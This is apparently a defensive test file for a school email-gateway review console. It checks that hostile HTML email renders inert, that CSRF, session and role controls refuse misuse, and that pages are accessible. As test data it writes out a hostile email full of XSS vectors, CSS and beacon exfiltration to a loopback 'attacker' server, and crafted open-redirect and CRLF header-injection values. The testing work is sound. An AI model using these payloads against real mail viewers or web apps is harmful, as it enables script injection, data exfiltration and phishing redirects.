// The console's defences, tested through the real relay and a real browser:
//  - a hostile HTML email shown in the viewer runs nothing and loads nothing (every request the
//    browser makes is recorded; a loopback "attacker" server counts any hit);
//  - every state-changing request without a session, with a wrong CSRF token, or from another
//    site is refused with 403, and nothing changes;
//  - roles: an auditor cannot release, the IT administrator never sees message content, the
//    safeguarding lead decides only safeguarding-severity incidents; raw downloads are recorded.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { headerValue } from '../src/act/notify/plan.ts';
import { addUser } from '../src/review/users.ts';
import { consoleDb } from '../src/review/console/migrations.ts';
import { CONSOLE_CSP } from '../src/review/console/index.ts';
import { VIEWER_CSP } from '../src/review/console/viewer.ts';
import { findIncident, incidentHistory, listIncidents } from '../src/store/incidents.ts';
import { holdMessage } from '../src/act/hold.ts';
import { notifySettings } from '../src/act/notify/settings.ts';
import type { Verdict } from '../src/types.ts';
import { launchBrowser, newContext, recordRequests, screenshot, signIn } from './helpers/browser.ts';
import { startSink, type Sink } from './helpers/smtp.ts';
import { signInForm, csrfOf } from './helpers/console.ts';
import {
  blockVerdict, createStorage, OUTSIDER, PUPIL, quarantineVerdict, schoolMessage, sendRaw, startHoldingGateway, TEACHER,
  type HoldingGateway, type TestStorage,
} from './quarantine-helpers.ts';

const PASSWORD = 'a long enough password 1';
const USERS = {
  bm: { username: 'bm', role: 'business-manager' as const, displayName: 'Business Manager' },
  dsl: { username: 'dsl', role: 'safeguarding-lead' as const, displayName: 'Safeguarding Lead' },
  it: { username: 'it', role: 'it-admin' as const, displayName: 'IT Admin' },
  auditor: { username: 'auditor', role: 'auditor' as const, displayName: 'Auditor' },
};

function misdirectedVerdict(): Verdict {
  return {
    action: 'quarantine', rules: ['misdirected-pupil-data'], severity: 5,
    findings: [{ rule: 'misdirected-pupil-data', detector: 'pupil-name', where: 'body', evidence: PUPIL.redacted, reason: `Information about ${PUPIL.redacted} is addressed to the parent of another pupil.` }],
  };
}

const inspector = async (m: { raw: Buffer }): Promise<Verdict> => {
  const v = headerValue(m.raw, 'x-test-verdict')?.trim();
  if (v === 'hold') return quarantineVerdict();
  if (v === 'misdirected') return misdirectedVerdict();
  return { action: 'deliver', rules: [], findings: [], severity: 0 };
};

/** The attacker's server: anything the viewer loaded would arrive here. */
async function startAttacker(): Promise<{ port: number; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain' }).end('x');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as AddressInfo).port, hits, close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }) };
}

function hostileMessage(evil: string): Buffer {
  const boundary = 'hostile-boundary-1';
  const htmlBody = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${evil}/meta-refresh">
<base href="${evil}/base/">
<link rel="stylesheet" href="${evil}/link.css">
<style>@import url("${evil}/import.css"); body { background: url(${evil}/body-bg.png); }</style>
<style>input[value^="a"] { background-image: url("${evil}/exfil?a"); } @font-face { font-family: x; src: url(${evil}/font.woff); }</style>
<style>p.note { color: #0b0c0c; font-weight: bold; }</style>
<script>document.body && document.body.insertAdjacentHTML('beforeend', '<p id="pwned">PWNED</p>'); new Image().src = '${evil}/script-beacon';</script>
</head>
<body onload="document.body.insertAdjacentHTML('beforeend', '<p id=pwned>PWNED</p>')" background="${evil}/body-attr.png">
<p class="note">Hello from the hostile email.</p>
<p style="background:url('${evil}/inline-style.png')">Styled paragraph</p>
<p style="background:u\\72l(${evil}/escaped.png)">Escaped url</p>
<img src="${evil}/tracking-pixel.gif" alt="logo" onerror="document.body.insertAdjacentHTML('beforeend','<p id=pwned>PWNED</p>')">
<img src="x" onerror="document.body.insertAdjacentHTML('beforeend','<p id=pwned>PWNED</p>')">
<a id="the-link" href="${evil}/clicked">Click to confirm your account</a>
<a href="javascript:document.body.insertAdjacentHTML('beforeend','<p id=pwned>PWNED</p>')">js link</a>
<form action="${evil}/form" method="post"><input name="secret" value="abc"><button id="submit-it">Send</button></form>
<iframe src="${evil}/iframe"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed">
<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video><audio src="${evil}/audio.mp3" autoplay></audio>
<svg><image href="${evil}/svg-image.png"/><script>document.body.insertAdjacentHTML('beforeend','<p id=pwned>PWNED</p>')</script></svg>
<table background="${evil}/table-bg.png"><tr><td>cell</td></tr></table>
<div style="width:10px;height:10px;background-image:image-set('${evil}/image-set.png' 1x)"></div>
</body></html>`;
  return Buffer.from([
    `From: Jane Hargreaves <${TEACHER}>`,
    `To: ${OUTSIDER}`,
    'Subject: Your invoice is attached',
    'Date: Tue, 24 Nov 2026 16:02:11 +0000',
    'Message-ID: <hostile-1@oakfield.sch.uk>',
    'MIME-Version: 1.0',
    'X-Test-Verdict: hold',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello from the hostile email (text part).',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(htmlBody).toString('base64').replace(/.{76}/g, '$&\r\n'),
    `--${boundary}--`,
    '',
  ].join('\r\n'));
}

interface Session { cookie: string; csrf: string }

describe('console security', () => {
  let sink: Sink;
  let storage: TestStorage;
  let gw: HoldingGateway;
  let base: string;
  let attacker: Awaited<ReturnType<typeof startAttacker>>;
  let browser: Browser;
  const sessions: Partial<Record<keyof typeof USERS, Session>> = {};
  let heldRef: string;
  let misdirectedRef: string;
  let hostileRef: string;

  async function hold(raw: Buffer): Promise<string> {
    const before = new Set((await listIncidents(gw.gateway.store.db)).map((i) => i.reference));
    expect((await sendRaw(gw.port, TEACHER, [OUTSIDER], raw)).code).toBe(250);
    return (await listIncidents(gw.gateway.store.db)).find((i) => !before.has(i.reference))!.reference;
  }

  /** Signs in over plain HTTP (as a browser would, without JavaScript) and returns the cookie and CSRF token. */
  async function signInHttp(username: string, password = PASSWORD): Promise<Session> {
    const res = await signInForm(base, username, password);
    expect(res.status).toBe(303);
    // The CSRF token from the page the user lands on (which depends on their role).
    return { cookie: res.cookie!, csrf: await csrfOf(base, res.cookie!, '/') };
  }

  const post = (path: string, body: Record<string, string>, headers: Record<string, string> = {}) =>
    fetch(`${base}${path}`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers }, body: new URLSearchParams(body) });

  beforeAll(async () => {
    sink = await startSink();
    storage = await createStorage('sqlite');
    attacker = await startAttacker();
    gw = await startHoldingGateway({ storage, sink, inspector, console: { listen: '127.0.0.1:0' } });
    base = gw.gateway.console!.url;
    const db = await consoleDb(gw.gateway.store);
    for (const u of Object.values(USERS)) await addUser(db, { ...u, password: PASSWORD });
    heldRef = await hold(schoolMessage({ extraHeaders: 'X-Test-Verdict: hold' }));
    misdirectedRef = await hold(schoolMessage({ subject: 'About your child', extraHeaders: 'X-Test-Verdict: misdirected' }));
    hostileRef = await hold(hostileMessage(`http://127.0.0.1:${attacker.port}`));
    for (const k of Object.keys(USERS) as Array<keyof typeof USERS>) sessions[k] = await signInHttp(USERS[k].username);
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await gw?.stop();
    await sink?.close();
    await attacker?.close();
    await storage?.cleanup();
  });

  it('renders a hostile HTML email without running or loading anything, even with JavaScript on', async () => {
    const context: BrowserContext = await newContext(browser, { javaScript: true });
    const page = await context.newPage();
    const requests = recordRequests(page);
    const consoleOrigin = new URL(base).origin;
    await signIn(page, base, 'bm', PASSWORD);
    await page.goto(`${base}/incidents/${hostileRef}`);
    const frame = page.frameLocator('iframe.viewer');
    await expect.poll(() => frame.locator('p.note').textContent(), { timeout: 15_000 }).toBe('Hello from the hostile email.');
    // The harmless style survived; the rest was stripped or made inert.
    expect(await frame.locator('p.note').evaluate((e) => (globalThis as unknown as { getComputedStyle(x: unknown): { fontWeight: string } }).getComputedStyle(e).fontWeight)).toBe('700');
    expect(await frame.locator('.hm-picture').first().textContent()).toContain('picture from the internet, not loaded');
    expect(await frame.locator('a#the-link, a.hm-link').first().getAttribute('href')).toBeNull();
    // Ask for the pictures and the link addresses too: still nothing may load.
    await page.goto(`${base}/incidents/${hostileRef}?pictures=1&links=1`);
    await expect.poll(() => frame.locator('p.note').count(), { timeout: 15_000 }).toBe(1);
    expect(await page.locator('#links + .table-wrap').textContent()).toContain(`http://127.0.0.1:${attacker.port}/clicked`);
    // Clicking the link in the message goes nowhere.
    await frame.getByText('Click to confirm your account').click();
    // The sandboxed page opened directly (top level) is sandboxed by its own CSP.
    const direct = await context.newPage();
    const directRequests = recordRequests(direct);
    await direct.goto(`${base}/incidents/${hostileRef}/body.html?pictures=1`);
    await direct.waitForTimeout(1500); // time for a meta refresh, a beacon or an onload to happen
    await page.waitForTimeout(500);
    await screenshot(page, 'console-hostile-message');

    expect(await frame.locator('#pwned').count()).toBe(0);
    expect(await direct.locator('#pwned').count()).toBe(0);
    expect(new URL(direct.url()).pathname).toBe(`/incidents/${hostileRef}/body.html`);
    for (const url of [...requests.urls, ...directRequests.urls]) expect(new URL(url).origin, url).toBe(consoleOrigin);
    expect(attacker.hits).toEqual([]);
    // The iframe is sandboxed with no permissions at all, and its document has its own CSP.
    expect(await page.locator('iframe.viewer').getAttribute('sandbox')).toBe('');
    const viewer = await fetch(`${base}/incidents/${hostileRef}/body.html`, { headers: { cookie: sessions.bm!.cookie } });
    expect(viewer.headers.get('content-security-policy')).toBe(VIEWER_CSP);
    const full = await viewer.text();
    const html = full.slice(full.indexOf('</head>')); // after the viewer's own head (charset, its style)
    for (const bad of ['<script', 'onerror', 'onload', '<form', '<iframe', '<meta', '<base', '<link', '<object', '<embed', 'url(', '@import', `127.0.0.1:${attacker.port}`]) {
      expect(html.toLowerCase(), bad).not.toContain(bad);
    }
    await context.close();
  });

  it('after sign-in goes only to one of the console’s own pages: a crafted next= lands on the home page, never elsewhere, never a 500', async () => {
    const context: BrowserContext = await newContext(browser, { javaScript: false });
    const page = await context.newPage();
    const requests = recordRequests(page);
    const consoleOrigin = new URL(base).origin;
    for (const next of ['/%09/evil.example', '//evil.example', '/\\evil.example', `/queue%0d%0aSet-Cookie:%20x=1`, 'https://evil.example/', '/sign-out', `http://127.0.0.1:${attacker.port}/`]) {
      await page.goto(`${base}/sign-in?next=${next}`);
      await page.getByLabel('User name').fill('bm');
      await page.getByLabel('Password').fill(PASSWORD);
      const [response] = await Promise.all([page.waitForNavigation(), page.getByRole('button', { name: 'Sign in' }).click()]);
      expect(response?.status(), next).toBe(200);
      expect(new URL(page.url()).origin, next).toBe(consoleOrigin);
      expect(new URL(page.url()).pathname, next).toBe('/queue');
      await page.getByRole('button', { name: /Sign out/ }).click();
    }
    // A good one is honoured, query string and all.
    await page.goto(`${base}/sign-in?next=${encodeURIComponent(`/incidents/${heldRef}?show=headers`)}`);
    await page.getByLabel('User name').fill('bm');
    await page.getByLabel('Password').fill(PASSWORD);
    await Promise.all([page.waitForNavigation(), page.getByRole('button', { name: 'Sign in' }).click()]);
    expect(new URL(page.url()).pathname).toBe(`/incidents/${heldRef}`);
    for (const url of requests.urls) expect(new URL(url).origin, url).toBe(consoleOrigin);
    expect(attacker.hits).toEqual([]);
    // Posted directly, a next= with a newline is dropped too (the form's hidden field), not a 500.
    const form = await fetch(`${base}/sign-in`);
    const signinCookie = form.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
    const token = /name="_signin" value="([^"]+)"/.exec(await form.text())![1];
    const res = await post('/sign-in', { _signin: token, username: 'bm', password: PASSWORD, next: '/queue\r\nLocation: https://evil.example/' }, { cookie: signinCookie });
    expect(res.status).toBe(303);
    expect(res.headers.get('location')).toBe('/queue');
    await context.close();
  });

  it('sends the strict security headers on every page', async () => {
    const res = await fetch(`${base}/queue`, { headers: { cookie: sessions.bm!.cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe(CONSOLE_CSP);
    expect(CONSOLE_CSP).toContain("default-src 'none'");
    expect(CONSOLE_CSP).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('cache-control')).toBe('no-store');
    const body = await res.text();
    expect(body).not.toContain('<script');
    expect(body).not.toContain(' style="');
    const signin = await fetch(`${base}/sign-in`);
    const cookie = signin.headers.getSetCookie()[0];
    expect(cookie).toContain('HttpOnly');
    expect(cookie).toContain('SameSite=Strict');
  });

  it('refuses every action without a session, with a wrong CSRF token or from another site (403), and changes nothing', async () => {
    const actions: Array<[string, Record<string, string>]> = [
      [`/incidents/${heldRef}/release`, { reason: 'attempt' }],
      [`/incidents/${heldRef}/reject`, { reason: 'attempt' }],
      [`/incidents/${heldRef}/breach`, { what_data: 'x', how_many: '1', recovered: 'no', who_told: 'x' }],
      [`/incidents/${heldRef}/ico-reported`, { reason: 'attempt' }],
      [`/incidents/${heldRef}/close`, { reason: 'attempt' }],
      ['/queue/release', { ref: heldRef, reason: 'attempt' }],
      ['/sign-out', {}],
    ];
    const bm = sessions.bm!;
    for (const [path, body] of actions) {
      expect((await post(path, body)).status, `${path} without a session`).toBe(403);
      expect((await post(path, { ...body, _csrf: bm.csrf })).status, `${path} with a token but no session`).toBe(403);
      expect((await post(path, body, { cookie: bm.cookie })).status, `${path} without a token`).toBe(403);
      expect((await post(path, { ...body, _csrf: `${bm.csrf.slice(0, -2)}xx` }, { cookie: bm.cookie })).status, `${path} with a wrong token`).toBe(403);
      expect((await post(path, { ...body, _csrf: sessions.dsl!.csrf }, { cookie: bm.cookie })).status, `${path} with another session's token`).toBe(403);
      expect((await post(path, { ...body, _csrf: bm.csrf }, { cookie: bm.cookie, 'sec-fetch-site': 'cross-site' })).status, `${path} from another site`).toBe(403);
    }
    // Sign-in itself needs the one-time token from its own form.
    expect((await post('/sign-in', { username: 'bm', password: PASSWORD })).status).toBe(403);
    const inc = await findIncident(gw.gateway.store.db, heldRef);
    expect(inc?.status).toBe('open');
    expect(inc?.potentialBreach).toBe(false);
    expect((await incidentHistory(gw.gateway.store.db, heldRef)).map((h) => h.action)).not.toContain('released');
    // The business manager's session still works (sign-out was refused too).
    expect((await fetch(`${base}/queue`, { headers: { cookie: bm.cookie } })).status).toBe(200);
  });

  it('refuses what the page does not offer: closing or reporting a message still held, escalating one that never went out', async () => {
    const bm = sessions.bm!;
    const ref = await hold(schoolMessage({ extraHeaders: 'X-Test-Verdict: hold' }));
    const page = await (await fetch(`${base}/incidents/${ref}`, { headers: { cookie: bm.cookie } })).text();
    expect(page).not.toContain(`/incidents/${ref}/close`);
    expect(page).not.toContain(`/incidents/${ref}/ico-reported`);
    const close = await post(`/incidents/${ref}/close`, { reason: 'no breach', _csrf: bm.csrf }, { cookie: bm.cookie });
    expect(close.status).toBe(409);
    expect(await close.text()).toContain(`${ref} is still held: release or reject the message first`);
    expect((await post(`/incidents/${ref}/ico-reported`, { reason: 'reported', _csrf: bm.csrf }, { cookie: bm.cookie })).status).toBe(409);
    const inc = await findIncident(gw.gateway.store.db, ref);
    expect(inc?.status).toBe('open');
    // Still in the queue, still releasable.
    expect(await (await fetch(`${base}/queue`, { headers: { cookie: bm.cookie } })).text()).toContain(ref);

    // A blocked attempt (nothing left the school), closed: escalating it as "went out and was
    // wrong" is refused, and the register does not say it was released.
    const ctx = { store: gw.gateway.store, notify: notifySettings(gw.config), hostname: 'gw' };
    const attempt = { id: 'NEARMISS1', envelope: { mailFrom: TEACHER, mailFromParams: {}, rcptTo: [{ address: OUTSIDER }] }, raw: schoolMessage(), receivedAt: new Date(), client: { address: '127.0.0.1', hostname: '', helo: 'exchange', tls: false } };
    const nearMiss = (await holdMessage(ctx, attempt, blockVerdict())).reference;
    expect((await post(`/incidents/${nearMiss}/close`, { reason: 'nothing left', _csrf: bm.csrf }, { cookie: bm.cookie })).status).toBe(303);
    const escalate = await post(`/incidents/${nearMiss}/breach`, { what_data: 'names', how_many: '1', recovered: 'never left', who_told: 'DPO', escalate: '1', _csrf: bm.csrf }, { cookie: bm.cookie });
    expect(escalate.status).toBe(409);
    expect((await findIncident(gw.gateway.store.db, nearMiss))?.status).toBe('closed-no-breach');
  });

  it('does not let an auditor release, reject or read message content', async () => {
    const a = sessions.auditor!;
    for (const action of ['release', 'reject', 'close']) {
      expect((await post(`/incidents/${heldRef}/${action}`, { reason: 'auditor attempt', _csrf: a.csrf }, { cookie: a.cookie })).status).toBe(403);
    }
    expect((await post('/queue/release', { ref: heldRef, reason: 'auditor attempt', _csrf: a.csrf }, { cookie: a.cookie })).status).toBe(403);
    expect((await findIncident(gw.gateway.store.db, heldRef))?.status).toBe('open');
    expect((await fetch(`${base}/queue`, { headers: { cookie: a.cookie } })).status).toBe(403);
    expect((await fetch(`${base}/incidents/${heldRef}/body.html`, { headers: { cookie: a.cookie } })).status).toBe(403);
    expect((await fetch(`${base}/incidents/${heldRef}/original.eml`, { headers: { cookie: a.cookie } })).status).toBe(403);
    // The record (rules, redacted evidence, history) is theirs to read, with file names masked.
    const record = await fetch(`${base}/incidents/${heldRef}`, { headers: { cookie: a.cookie } });
    expect(record.status).toBe(200);
    const text = await record.text();
    expect(text).toContain('Personal data in an attachment that is not encrypted');
    expect(text).not.toContain('needs her inhaler');
    expect(text).not.toContain(PUPIL.full);
    expect(text).not.toContain('Release the message');
    expect((await fetch(`${base}/register`, { headers: { cookie: a.cookie } })).status).toBe(200);
    const history = await incidentHistory(gw.gateway.store.db, heldRef);
    expect(history.some((h) => h.actor === 'Auditor (auditor, console)' && h.action === 'viewed-record')).toBe(true);
  });

  it('never shows the IT administrator message content, only health and configuration', async () => {
    const it = sessions.it!;
    for (const path of ['/queue', `/incidents/${heldRef}`, `/incidents/${heldRef}/body.html`, `/incidents/${heldRef}/original.eml`, '/register', '/register.csv', '/report']) {
      expect((await fetch(`${base}${path}`, { headers: { cookie: it.cookie } })).status, path).toBe(403);
    }
    expect((await post(`/incidents/${heldRef}/release`, { reason: 'it attempt', _csrf: it.csrf }, { cookie: it.cookie })).status).toBe(403);
    const res = await fetch(`${base}/system`, { headers: { cookie: it.cookie } });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain('Gateway instances');
    expect(text).toContain('reachable');
    for (const content of [TEACHER, OUTSIDER, PUPIL.full, 'Trip list', 'hostile']) expect(text, content).not.toContain(content);
  });

  it('lets the safeguarding lead decide safeguarding-severity incidents only', async () => {
    const d = sessions.dsl!;
    expect((await post(`/incidents/${heldRef}/release`, { reason: 'dsl attempt', _csrf: d.csrf }, { cookie: d.cookie })).status).toBe(403);
    expect((await findIncident(gw.gateway.store.db, heldRef))?.status).toBe('open');
    const res = await post(`/incidents/${misdirectedRef}/reject`, { reason: 'Wrong family: send it to the right parent.', _csrf: d.csrf }, { cookie: d.cookie });
    expect(res.status).toBe(303);
    expect((await findIncident(gw.gateway.store.db, misdirectedRef))?.status).toBe('rejected');
  });

  it('gives the original message only to roles allowed it, and records the download', async () => {
    const bm = sessions.bm!;
    const res = await fetch(`${base}/incidents/${heldRef}/original.eml`, { headers: { cookie: bm.cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${heldRef}.eml"`);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    const held = await (await import('../src/store/incidents.ts')).heldMessage(gw.gateway.store.db, heldRef);
    expect(Buffer.from(await res.arrayBuffer()).equals(held!.raw!)).toBe(true);
    const history = await incidentHistory(gw.gateway.store.db, heldRef);
    expect(history.some((h) => h.actor === 'Business Manager (bm, console)' && h.action === 'downloaded-original')).toBe(true);
  });

  it('ends the session on sign-out: the old cookie no longer works', async () => {
    const s = await signInHttp('bm');
    expect((await post('/sign-out', { _csrf: s.csrf }, { cookie: s.cookie })).status).toBe(303);
    const after = await fetch(`${base}/queue`, { headers: { cookie: s.cookie }, redirect: 'manual' });
    expect(after.status).toBe(303);
    expect(after.headers.get('location')).toContain('/sign-in');
  });

  it('is usable with a keyboard and a screen reader: landmarks, labels, one h1, skip link, contrast', async () => {
    const context = await newContext(browser, { javaScript: true });
    const page = await context.newPage();
    await signIn(page, base, 'bm', PASSWORD);
    for (const path of ['/queue', `/incidents/${heldRef}`, '/register', '/report', '/system']) {
      await page.goto(`${base}${path}`);
      const facts = await page.evaluate(() => {
        const d = (globalThis as unknown as { document: any }).document;
        const w = globalThis as unknown as { getComputedStyle(e: unknown): any };
        const controls = [...d.querySelectorAll('input:not([type=hidden]), select, textarea, button')];
        const unnamed = controls.filter((el: any) => el.tagName === 'BUTTON' ? !el.textContent.trim() && !el.getAttribute('aria-label') : !(el.labels?.length || el.getAttribute('aria-label') || el.getAttribute('aria-labelledby'))).map((el: any) => el.outerHTML.slice(0, 80));
        const charts = [...d.querySelectorAll('svg')].filter((s: any) => s.getAttribute('role') !== 'img' || !s.getAttribute('aria-labelledby')).length;
        const rgb = (c: string) => (c.match(/[\d.]+/g) ?? []).map(Number);
        const lum = ([r, g, b]: number[]) => {
          const f = (v: number) => { const x = v / 255; return x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4; };
          return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
        };
        const background = (el: any): number[] => {
          for (let e = el; e; e = e.parentElement) {
            const c = rgb(w.getComputedStyle(e).backgroundColor);
            if (c.length === 3 || (c.length === 4 && c[3] > 0.5)) return c.slice(0, 3);
          }
          return [255, 255, 255];
        };
        const lowContrast: string[] = [];
        for (const el of [...d.querySelectorAll('main *, header *')] as any[]) {
          const text = [...el.childNodes].filter((n: any) => n.nodeType === 3).map((n: any) => n.textContent).join('').trim();
          if (!text || el.closest('svg') || el.offsetParent === null) continue;
          const style = w.getComputedStyle(el);
          const fg = lum(rgb(style.color).slice(0, 3));
          const bg = lum(background(el));
          const ratio = (Math.max(fg, bg) + 0.05) / (Math.min(fg, bg) + 0.05);
          const large = parseFloat(style.fontSize) >= 24 || (parseFloat(style.fontSize) >= 18.66 && Number(style.fontWeight) >= 700);
          if (ratio < (large ? 3 : 4.5)) lowContrast.push(`${text.slice(0, 30)} (${ratio.toFixed(2)})`);
        }
        return {
          lang: d.documentElement.lang, h1: d.querySelectorAll('h1').length, main: d.querySelectorAll('main').length,
          nav: d.querySelectorAll('nav[aria-label]').length, title: d.title, unnamed, charts, lowContrast,
        };
      });
      expect(facts.lang, path).toBe('en-GB');
      expect(facts.h1, path).toBe(1);
      expect(facts.main, path).toBe(1);
      expect(facts.nav, path).toBeGreaterThanOrEqual(1);
      expect(facts.title, path).toMatch(/ – Hallmonitor$/);
      expect(facts.unnamed, path).toEqual([]);
      expect(facts.charts, path).toBe(0);
      expect(facts.lowContrast, path).toEqual([]);
    }
    // The first Tab reaches the skip link, and it takes the keyboard to the main content.
    await page.goto(`${base}/queue`);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => (globalThis as unknown as { document: any }).document.activeElement.textContent)).toBe('Skip to main content');
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => (globalThis as unknown as { document: any }).document.activeElement.id)).toBe('main');
    // A whole decision with the keyboard alone: Tab to the release reason, type, Tab to the button, Enter.
    const ref = await hold(schoolMessage({ subject: 'Keyboard only', extraHeaders: 'X-Test-Verdict: hold' }));
    await page.goto(`${base}/incidents/${ref}`);
    let found = false;
    for (let i = 0; i < 80 && !found; i++) {
      await page.keyboard.press('Tab');
      found = await page.evaluate(() => (globalThis as unknown as { document: any }).document.activeElement.id === 'release-reason');
    }
    expect(found).toBe(true);
    await page.keyboard.type('Keyboard-only check: safe to send.');
    await page.keyboard.press('Tab');
    await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
    expect((await findIncident(gw.gateway.store.db, ref))?.status).toBe('released');
    await context.close();
  });
});
